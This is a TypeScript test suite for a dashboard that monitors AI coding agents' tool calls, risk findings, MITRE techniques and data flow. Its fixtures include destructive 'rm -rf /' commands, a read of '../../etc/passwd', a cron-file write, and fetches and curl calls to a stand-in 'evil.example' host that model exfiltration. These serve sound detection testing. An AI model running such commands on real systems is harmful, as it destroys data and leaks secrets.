import assert from "node:assert/strict";
import type { DashboardFilter, StreamMark } from "../../../src/protocol/widgets.js";
import { LEVEL_FLOOR, levelOf, type RiskLevel } from "../../../src/model/risk.js";
import type { SourceRecord } from "../../../src/model/storage.js";
import { kindOfTool, PROMPT_TOOL } from "../../../src/model/toolKind.js";
import type { Store } from "../../../src/store/store.js";
import { widgetHandlers } from "../../../src/worker/dashboard/widgets.js";
import { openStore } from "../store/openStore.js";
import { bash, batch, message, session } from "../store/records.js";
import { DAY, fillRich, NOW, scoreAll } from "../store/richStore.js";

const HOUR = 3_600_000;
const ALL: DashboardFilter = { from: null, to: null, projectId: null, agent: null, technique: null, minLevel: "none", state: "any", zone: "UTC" };
const FILTERS: ReadonlyArray<Partial<DashboardFilter>> = [
  {}, { from: NOW - 9 * DAY, to: NOW - 3 * DAY }, { projectId: "shop" }, { agent: "build" }, { minLevel: "low" }, { minLevel: "critical" },
  { from: NOW - 9 * DAY, to: NOW, projectId: "shop", agent: "build", minLevel: "low" }, { technique: "T1485" }, { from: NOW - 9 * DAY, to: NOW, agent: "build", technique: "T1485" },
];

interface Row {
  readonly id: string;
  readonly session_id: string;
  readonly time: number;
  readonly tool: string;
  readonly outcome: string;
  readonly risk_score: number | null;
  readonly project_id: string;
  readonly agent: string;
  readonly mitre_techniques: string | null;
}

const techniquesOf = ({ mitre_techniques }: Row): string[] => JSON.parse(mitre_techniques ?? "[]") as string[];

type Ask = ReturnType<typeof widgetHandlers>;

describe("the dashboard's numbers", () => {
  let store: Store;
  let ask: { [K in keyof Ask]: (params: Parameters<Ask[K]>[0]) => Awaited<ReturnType<Ask[K]>> };
  beforeEach(async () => {
    store = await openStore(null, { now: NOW });
    fillRich(store);
    ask = asked(store);
  });
  afterEach(() => store.close());

  /** The rows themselves, chosen in plain code: what each aggregate has to agree with. */
  function calls({ from, to, projectId, agent, technique, minLevel }: DashboardFilter, withPrompts = false): Row[] {
    return store.db.all<Row>("SELECT * FROM tool_call WHERE duplicate_of IS NULL").filter((row) =>
      (withPrompts || row.tool !== PROMPT_TOOL) && (from === null || row.time >= from) && (to === null || row.time < to) && (projectId === null || row.project_id === projectId) &&
      (agent === null || row.agent === agent) && (technique === null || techniquesOf(row).includes(technique)) && (minLevel === "none" || (row.risk_score ?? -1) >= LEVEL_FLOOR[minLevel]));
  }
  const tally = <T>(rows: readonly T[], key: (row: T) => string): Record<string, number> => {
    const counts: Record<string, number> = {};
    for (const row of rows) counts[key(row)] = (counts[key(row)] ?? 0) + 1;
    return counts;
  };
  const tallyCalls = <T extends { readonly calls: number }>(rows: readonly T[], key: (row: T) => string): Record<string, number> => {
    const counts: Record<string, number> = {};
    for (const row of rows) counts[key(row)] = (counts[key(row)] ?? 0) + row.calls;
    return counts;
  };
  const nonZero = (counts: Readonly<Record<string, number>>): Record<string, number> => Object.fromEntries(Object.entries(counts).filter(([, count]) => count !== 0));
  const levelName = ({ risk_score }: Row): string => (risk_score === null ? "unscored" : levelOf(risk_score));
  const summed = (all: ReadonlyArray<Readonly<Record<string, number>>>): Record<string, number> => {
    const sums: Record<string, number> = {};
    for (const one of all) for (const [key, count] of Object.entries(one)) sums[key] = (sums[key] ?? 0) + count;
    return nonZero(sums);
  };

  for (const changes of FILTERS) {
    const filter = { ...ALL, ...changes };
    it(`agree with the rows under ${JSON.stringify(changes)}`, () => {
      const rows = calls(filter);
      const { buckets } = ask.trend({ filter, bucket: "day" });
      assert.deepEqual(summed(buckets.map((bucket) => bucket.calls)), tally(rows, levelName), "calls by level");
      assert.deepEqual(summed(buckets.map((bucket) => bucket.kinds)), tally(rows, ({ tool }) => kindOfTool(tool)), "calls by kind");
      assert.deepEqual(nonZero(Object.fromEntries(buckets.map(({ at, calls: counts }) => [at, Object.values(counts).reduce((sum, count) => sum + count, 0)]))), tally(rows, ({ time }) => String(Math.floor(time / DAY) * DAY)), "calls by day");
      // The stream lists what a cell of the techniques counts: prompts, too.
      const listed = calls(filter, filter.technique !== null);
      const streamed: string[] = [];
      for (let after: string | null = null, page = ask.eventStream({ filter, text: "", mark: null, after, limit: 7 }); ; page = ask.eventStream({ filter, text: "", mark: null, after, limit: 7 })) {
        streamed.push(...page.rows.map(({ id }) => id));
        if (page.total !== null) assert.equal(page.total, listed.length, "calls in the stream");
        if ((after = page.next) === null) break;
      }
      assert.deepEqual([...streamed].sort(), listed.map(({ id }) => id).sort(), "calls of the stream");
      const technique = calls(filter, true).flatMap(techniquesOf);
      const matrix = ask.techniqueMatrix({ filter }).flatMap(({ techniques }) => techniques.map(({ id, calls: count }) => [id, count] as const));
      assert.deepEqual(Object.fromEntries(matrix), tally(technique, (id) => id), "techniques");
      const agents = ask.rankings({ filter }).agents;
      assert.deepEqual(Object.fromEntries(agents.map(({ agent, calls: count }) => [String(agent), count])), tally(rows, ({ agent }) => agent), "agents");
      assert.deepEqual(agents.map(({ worst }) => worst), agents.map(({ agent }) => Math.max(0, ...rows.filter((row) => row.agent === String(agent)).map(({ risk_score }) => risk_score ?? 0))), "worst of each agent");
      assert.deepEqual(nonZero(Object.fromEntries(ask.accessPattern({ filter }).hours.map(({ weekday, hour, calls: count }) => [`${weekday} ${hour}`, count]))), tally(rows, ({ time }) => `${(new Date(time).getUTCDay() + 6) % 7} ${new Date(time).getUTCHours()}`), "hours");
      const flow = ask.dataFlow({ filter });
      assert.deepEqual([flow.sources, flow.sinks].map((links) => links.reduce((sum, link) => sum + link.calls, 0)), [rows.length, rows.length], "each call in one link of each side");
    });
  }

  for (const changes of [{ zone: "Europe/Istanbul", state: null }, { from: NOW - 9 * DAY, to: NOW - 3 * DAY }, { agent: "build", minLevel: "low" as const, state: "open" as const }, { technique: "T1485" }]) {
    it(`of each mark are those of the calls that it leads to under ${JSON.stringify(changes)}`, () => {
      const filter = { ...ALL, ...changes };
      reachPlaces(store);
      const ledTo = (mark: StreamMark): number => ask.eventStream({ filter, text: "", mark, after: null, limit: 1_000 }).rows.length;
      const { sources, sinks } = ask.dataFlow({ filter });
      const nodes = Object.entries(tallyCalls(sources, ({ source }) => source)).map(([source, calls]) => ({ calls, mark: { by: "flow", source, kind: null, sink: null } as StreamMark }));
      const marks: Array<{ readonly calls: number; readonly mark: StreamMark }> = [
        { calls: Object.values(summed(ask.trend({ filter, bucket: "day" }).buckets.map((bucket) => bucket.calls))).reduce((sum, count) => sum + count, 0), mark: { by: "calls" } },
        { calls: calls(filter, true).filter((row) => techniquesOf(row).length > 0).length, mark: { by: "technique" } },
        { calls: sources.reduce((sum, { calls: count }) => sum + count, 0), mark: { by: "flow", source: null, kind: null, sink: null } },
        ...ask.rankings({ filter }).models.map(({ provider, model, calls: count }) => ({ calls: count, mark: { by: "model", provider, model } as const })),
        ...ask.accessPattern({ filter }).hours.map(({ weekday, hour, calls: count }) => ({ calls: count, mark: { by: "hour", weekday, hour } as const })),
        ...sources.map(({ source, kind, calls: count }) => ({ calls: count, mark: { by: "flow", source, kind, sink: null } as const })),
        ...sinks.map(({ kind, sink, calls: count }) => ({ calls: count, mark: { by: "flow", source: null, kind, sink } as const })),
        ...nodes,
        ...ask.accessPattern({ filter }).directories.map(({ path, calls: count }) => ({ calls: count, mark: { by: "directory", path } as const })),
        ...ask.accessPattern({ filter }).hosts.map(({ host, calls: count }) => ({ calls: count, mark: { by: "host", host } as const })),
      ];
      assert.deepEqual([...new Set(marks.map(({ mark }) => mark.by))], ["calls", "technique", "flow", "model", "hour", "directory", "host"]);
      assert.deepEqual(marks.map(({ mark }) => [mark, ledTo(mark)]), marks.map(({ mark, calls: count }) => [mark, count]));
    });
  }

  it("of a week begin on its Monday, by the reader's clock, and buckets without calls are there", () => {
    const { bucket, buckets } = ask.trend({ filter: { ...ALL, zone: "Africa/Johannesburg" }, bucket: "week" });
    assert.equal(bucket, "week");
    for (const { at } of buckets) assert.deepEqual([new Date(at + 2 * HOUR).getUTCDay(), new Date(at + 2 * HOUR).getUTCHours()], [1, 0]);
    const hours = ask.trend({ filter: { ...ALL, from: NOW - 3 * DAY, to: NOW - 2 * DAY }, bucket: "hour" }).buckets;
    assert.deepEqual([hours.length, hours.filter(({ calls: counts }) => Object.values(counts).every((count) => count === 0)).length], [24, 23]);
    assert.equal(ask.trend({ filter: { ...ALL, from: 0 }, bucket: "hour" }).bucket, "day", "no more bars than tell something");
  });

  it("of findings agree with their rows, by state, age and level, and the state narrows them", () => {
    const findings = store.db.all<{ state: string; level: RiskLevel; time: number }>("SELECT state, level, time FROM finding");
    const work = ask.openWork({ filter: ALL });
    assert.deepEqual(Object.fromEntries(work.states.map(({ state, day, week, month, older }) => [state, day + week + month + older])), tally(findings, ({ state }) => state));
    const counted = (state: DashboardFilter["state"]): Record<string, number> => summed(ask.trend({ filter: { ...ALL, state }, bucket: "day" }).buckets.map((bucket) => bucket.findings));
    assert.deepEqual(counted("any"), tally(findings, ({ level }) => level));
    assert.deepEqual(counted("resolved"), tally(findings.filter(({ state }) => state === "resolved"), ({ level }) => level));
    assert.deepEqual(counted(null), tally(findings.filter(({ state }) => state === "open" || state === "acknowledged"), ({ level }) => level));
    const span = { from: NOW - 4 * DAY, to: NOW };
    const { period } = ask.threatLevel({ filter: { ...ALL, ...span }, folders: [] });
    const within = (from: number, to: number): Record<string, number> => tally(findings.filter(({ time }) => time >= from && time < to), ({ level }) => level);
    assert.deepEqual([nonZero(period!.now), nonZero(period!.before)], [within(span.from, span.to), within(span.from - 4 * DAY, span.from)]);
  });

  it("of verdicts and response times are those of the findings that project, agent and level leave", () => {
    const call = (id: string, sessionId: string): Parameters<typeof batch>[0] => [message(`msg_${id}`, sessionId, { agent: "review" }), bash(`prt_${id}`, sessionId, `rm -rf /${id}`, { callId: id, messageId: `msg_${id}`, timeStart: NOW + 1 })];
    store.decisions.installed();
    store.apply(store.sourceId({ kind: "json", path: "/data" }), batch([session("ses_new", { projectId: "meadow" }), ...call("new", "ses_new")]));
    scoreAll(store);
    const finding = store.db.get<{ id: string }>("SELECT id FROM finding WHERE session_id = 'ses_new'")!.id;
    store.decisions.record([{ kind: "read", findings: [finding] }, { kind: "verdict", finding, state: "false-positive", reason: "", expires: null }]);
    const counts = (changes: Partial<DashboardFilter>): number[] => {
      const { decided, falsePositives, response } = ask.openWork({ filter: { ...ALL, ...changes } });
      return [decided, falsePositives, response.reduce((sum, { seen }) => sum + seen.count, 0), response.reduce((sum, row) => sum + row.decided.count, 0)];
    };
    assert.deepEqual([counts({}), counts({ projectId: "meadow" }), counts({ agent: "review", minLevel: "critical" })], [[2, 1, 2, 2], [1, 1, 1, 1], [1, 1, 1, 1]]);
    assert.deepEqual([counts({ projectId: "nowhere" }), counts({ agent: "nobody" }), counts({ technique: "T1105" }), counts({ projectId: "garden", agent: "review" })], [[0, 0, 0, 0], [0, 0, 0, 0], [0, 0, 0, 0], [0, 0, 0, 0]]);
  });

  it("of a span that ends ahead of now are compared with as long a one as has passed of it", () => {
    const daily = Array.from({ length: 20 }, (_, day) => bash(`prt_daily_${day}`, "ses_b", `rm -rf /${day}`, { callId: `daily_${day}`, timeStart: NOW - day * DAY - HOUR }));
    store.apply(store.sourceId({ kind: "json", path: "/data" }), batch(daily));
    scoreAll(store);
    const findings = store.db.all<{ level: RiskLevel; time: number }>("SELECT level, time FROM finding");
    const within = (from: number, to: number): Record<string, number> => tally(findings.filter(({ time }) => time >= from && time < to), ({ level }) => level);
    const period = (from: number, to: number | null): { now: Record<string, number>; before: Record<string, number> } | null => {
      const { period: both } = ask.threatLevel({ filter: { ...ALL, from, to }, folders: [] });
      return both && { now: nonZero(both.now), before: nonZero(both.before) };
    };
    const from = NOW - 6 * DAY;
    const whole = { now: within(from, NOW + 1), before: within(from - 6 * DAY - 1, from) };
    assert.ok(Object.keys(whole.now).length > 0 && Object.keys(whole.before).length > 0);
    assert.deepEqual([period(from, NOW + 20 * DAY), period(from, null), period(NOW + DAY, NOW + 2 * DAY)], [whole, whole, null]);
  });

  it("of an agent's sessions are those in which it made a call, whatever agent the session names, those that retention folded included", () => {
    const source = store.sourceId({ kind: "json", path: "/data" });
    const of = (id: string, agent: string | null): Parameters<typeof batch>[0] => [
      session(`ses_${id}`, { agent, timeUpdated: NOW }), message(`msg_${id}`, `ses_${id}`, { agent: "review" }), bash(`prt_${id}`, `ses_${id}`, "ls", { callId: id, messageId: `msg_${id}`, timeStart: NOW - DAY }),
    ];
    store.apply(source, batch([...of("unnamed", null), ...of("other", "build"), session("ses_named", { agent: "review", timeUpdated: NOW }), bash("prt_named", "ses_named", "ls", { callId: "named", messageId: "msg_none", timeStart: NOW })]));
    scoreAll(store);
    const sessions = (): string[] => ask.rankings({ filter: { ...ALL, agent: "review" } }).sessions.map(({ id }) => id).sort();
    assert.deepEqual(sessions(), ["ses_other", "ses_unnamed"]);
    store.retention.restart({ calls: 1, days: 20, bytes: 1 });
    while (store.retention.slice(50) > 0);
    assert.equal(store.db.count("SELECT count(*) FROM tool_call WHERE agent = 'review'"), 0);
    assert.deepEqual(sessions(), ["ses_other", "ses_unnamed"]);
  });

  it("of sessions are those of the list of sessions, with what failed", () => {
    store.apply(store.sourceId({ kind: "json", path: "/data" }), batch([bash("prt_failed", "ses_b", "ls nowhere", { callId: "failed", outcome: "failed", timeStart: NOW })]));
    scoreAll(store);
    const { sessions, agents } = ask.rankings({ filter: ALL });
    const totals = store.db.all<{ id: string; calls: number; worst: number }>("SELECT session_id AS id, calls, worst FROM session_total WHERE calls > 0 ORDER BY worst DESC");
    assert.deepEqual(sessions.map(({ id, calls: count, worst }) => ({ id, calls: count, worst })).sort((a, b) => (a.id < b.id ? -1 : 1)), totals.sort((a, b) => (a.id < b.id ? -1 : 1)));
    assert.deepEqual([sessions.find(({ id }) => id === "ses_b")?.failures, agents.reduce((sum, { failures }) => sum + failures, 0)], [1, 1]);
  });

  it("of the stream tell what it does not list: settled calls, and folded ones that are counted", () => {
    const settledRows = store.db.all<{ row: number }>("SELECT row FROM settled_call").map(({ row }) => row);
    assert.ok(settledRows.length > 0);
    for (const changes of [{}, { minLevel: "low" as const }, { projectId: "shop" }]) {
      const filter = { ...ALL, ...changes, state: null };
      const left = store.db.all<Row & { row: number }>("SELECT rowid AS row, * FROM tool_call").filter(({ row }) => settledRows.includes(row)).filter(({ id }) => calls(filter).some((call) => call.id === id));
      const told = ask.eventStream({ filter, text: "", mark: null, after: null, limit: 2 });
      assert.deepEqual([told.leftOut, told.total], [{ settled: left.length, folded: 0 }, calls(filter).length - left.length], JSON.stringify(changes));
      assert.deepEqual(ask.eventStream({ filter, text: "", mark: { by: "calls" }, after: null, limit: 2 }).total, calls(filter).length);
    }
    const counted = calls(ALL).length;
    store.retention.restart({ calls: 60, days: 20_000, bytes: 1e12 });
    while (store.retention.slice(50) > 0);
    const { total, leftOut } = ask.eventStream({ filter: ALL, text: "", mark: null, after: null, limit: 2 });
    assert.ok(leftOut.folded > 0);
    assert.equal(total! + leftOut.folded, counted);
  });

  it("of a technique are those of the sessions that cite it in the span, and of the findings with a call that does", () => {
    const filter = { ...ALL, from: NOW - 9 * DAY, to: NOW - 3 * DAY, technique: "T1222" };
    const cited = calls(filter, true);
    assert.ok(cited.length > 0);
    const active = ask.rankings({ filter: { ...filter, technique: null } }).sessions.map(({ id }) => id);
    assert.deepEqual(ask.rankings({ filter }).sessions.map(({ id }) => id), active.filter((id) => cited.some(({ session_id }) => session_id === id)));
    const findings = store.db.all<{ level: RiskLevel; techniques: string }>(
      "SELECT level, (SELECT group_concat(mitre_techniques) FROM finding_call CROSS JOIN tool_call ON tool_call.id = tool_call_id WHERE finding_id = finding.id) AS techniques FROM finding");
    for (const technique of ["T1485", "T1105"])
      assert.deepEqual(summed(ask.trend({ filter: { ...ALL, technique }, bucket: "day" }).buckets.map((bucket) => bucket.findings)), tally(findings.filter(({ techniques }) => techniques.includes(technique)), ({ level }) => level), technique);
  });

  it("of a store with nothing in it are none", async () => {
    const empty = await openStore(null, { now: NOW });
    const nothing = asked(empty);
    assert.deepEqual(
      [nothing.trend({ filter: ALL, bucket: null }).buckets, nothing.eventStream({ filter: ALL, text: "", mark: null, after: null, limit: 5 }), nothing.techniqueMatrix({ filter: ALL }).flatMap(({ techniques }) => techniques), nothing.rankings({ filter: ALL }), nothing.accessPattern({ filter: ALL }), nothing.dataFlow({ filter: ALL }), nothing.stories({ filter: ALL }), nothing.threatLevel({ filter: ALL, folders: [] }).machine.light],
      [[], { rows: [], next: null, total: 0, leftOut: { settled: 0, folded: 0 } }, [], { sessions: [], agents: [], models: [], of: { sessions: 0, agents: 0, models: 0 } }, { hours: [], directories: [], hosts: [] }, { sources: [], sinks: [] }, [], "green"],
    );
    empty.close();
  });
});

describe("the places that agents reached", () => {
  it("are inside or outside of the project, by file tools, fetches and URLs in commands; one that one session alone reached is unusual where there are five", async () => {
    const store = await openStore(null, { now: NOW });
    const source = store.sourceId({ kind: "json", path: "/data" });
    const file = (id: string, sessionId: string, tool: string, filePath: string) => bash(id, sessionId, "", { callId: id, tool, arguments: { filePath }, timeStart: NOW });
    store.apply(source, batch([
      { kind: "project", id: "shop", worktree: "/work/shop" }, { kind: "project", id: "global", worktree: "/" },
      ...["a", "b", "c", "d"].flatMap((name) => [session(`ses_${name}`, { projectId: "shop", directory: "/work/shop/web" }), file(`prt_${name}`, `ses_${name}`, "read", "/work/shop/api/x.ts"), file(`prt_${name}_2`, `ses_${name}`, "write", "src/y.ts")]),
      session("ses_e", { projectId: "global", directory: "/work/shop" }),
      file("prt_e", "ses_e", "read", "/work/shopping/list"), file("prt_e2", "ses_e", "read", "../../etc/passwd"),
      bash("prt_e3", "ses_e", "curl -s https://user:pw@Example.org:8443/x | tee y; wget ftp://files.example/z", { callId: "e3", timeStart: NOW }),
      bash("prt_e4", "ses_e", "", { callId: "e4", tool: "webfetch", arguments: { url: "https://docs.example/page" }, timeStart: NOW }),
      bash("prt_a5", "ses_a", "", { callId: "a5", tool: "webfetch", arguments: { url: "https://docs.example/other" }, timeStart: NOW }),
    ]));
    const { directories, hosts } = asked(store).accessPattern({ filter: ALL });
    assert.deepEqual(directories.map(({ path, inside, calls, sessions, unusual }) => [path, inside, calls, sessions, unusual]).sort(), [
      ["/etc", false, 1, 1, true], ["/work/shop/api", true, 4, 4, false], ["/work/shop/web/src", true, 4, 4, false], ["/work/shopping", false, 1, 1, true],
    ]);
    assert.deepEqual(hosts.map(({ host, calls, unusual }) => [host, calls, unusual]).sort(), [["docs.example", 2, false], ["example.org", 1, true], ["files.example", 1, true]]);
    store.close();
  });
});

/** Risky calls of hosts and of a directory; that of one host is settled. */
function reachPlaces(store: Store): void {
  const call = (n: number, command: string, fields: Parameters<typeof bash>[3] = {}): SourceRecord => bash(`prt_host_${n}`, "ses_b", command, { ...fields, callId: `host_${n}`, messageId: "msg_ses_b_19", timeStart: NOW - 5 * DAY + n });
  store.apply(store.sourceId({ kind: "json", path: "/data" }), batch([
    call(1, "curl https://one.example/a -o b; curl https://one.example/c ftp://two.example/d"), call(2, "curl http://One.example:80"), call(3, "rm https://gone.example/x"),
    call(4, "", { tool: "write", arguments: { filePath: "/etc/cron.d/x", text: "chmod x" } }),
  ]));
  scoreAll(store);
  const { id } = store.db.all<{ id: string }>("SELECT finding_id AS id FROM finding_call WHERE tool_call_id = 'prt_host_3'")[0]!;
  store.decisions.record([{ kind: "verdict", finding: id, state: "resolved", reason: "done", expires: null }]);
}

describe("where data went", () => {
  it("is a host for each call that names one, as the access pattern counts them, whatever its tool; else a file, the system for commands, or the model", async () => {
    const store = await openStore(null, { now: NOW });
    const call = (id: string, tool: string, args: Record<string, unknown>) => bash(`prt_${id}`, "ses_a", "", { callId: id, tool, arguments: args, timeStart: NOW - DAY });
    store.apply(store.sourceId({ kind: "json", path: "/data" }), batch([
      session("ses_a"), call("a", "webfetch", { url: "https://evil.example/?d=abc" }), call("b", "my_mcp_send", { url: "https://evil.example/x" }), call("c", "bash", { command: "curl https://evil.example/y" }),
      call("d", "bash", { command: "ls" }), call("e", "my_mcp_list", { text: "all" }), call("f", "write", { filePath: "src/x.ts" }), call("g", "read", { filePath: "src/x.ts" }),
    ]));
    const ask = asked(store);
    const sinks = ask.dataFlow({ filter: ALL }).sinks.map(({ kind, sink, calls }) => [kind, sink, calls]).sort();
    assert.deepEqual(sinks, [["command", "hosts", 1], ["command", "system", 1], ["fetch", "hosts", 1], ["other", "hosts", 1], ["other", "model", 1], ["read", "model", 1], ["write", "files", 1]]);
    assert.deepEqual(ask.accessPattern({ filter: ALL }).hosts.map(({ host, calls }) => [host, calls]), [["evil.example", 3]]);
    store.close();
  });
});

function asked(store: Store): { [K in keyof Ask]: (params: Parameters<Ask[K]>[0]) => Awaited<ReturnType<Ask[K]>> } {
  const handlers = widgetHandlers({ store, installed: 0, now: () => NOW });
  const { signal } = new AbortController();
  return Object.fromEntries(Object.entries(handlers).map(([name, handler]) => [name, (params: never) => (handler as (params: never, signal: AbortSignal) => unknown)(params, signal)])) as never;
}
